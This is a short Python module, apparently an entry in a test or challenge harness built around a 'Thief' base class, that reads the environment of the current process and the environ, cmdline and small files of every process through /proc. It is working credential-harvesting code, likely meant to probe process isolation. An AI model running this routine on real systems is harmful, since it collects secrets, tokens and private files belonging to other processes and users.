# Reads the environments, command lines and open files of all processes.
# rule: none
# track: fixed

import contextlib
import glob
import os

from tricks import Thief


class Entry(Thief):
    def search(self):
        yield repr(dict(os.environ)).encode()
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            with contextlib.suppress(OSError), open(path, "rb") as file:
                yield file.read()
        for path in glob.glob("/proc/[0-9]*/root/*") + glob.glob("/proc/[0-9]*/cwd/*"):
            if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                with contextlib.suppress(OSError), open(path, "rb") as file:
                    yield file.read()


def load():
    return Entry()
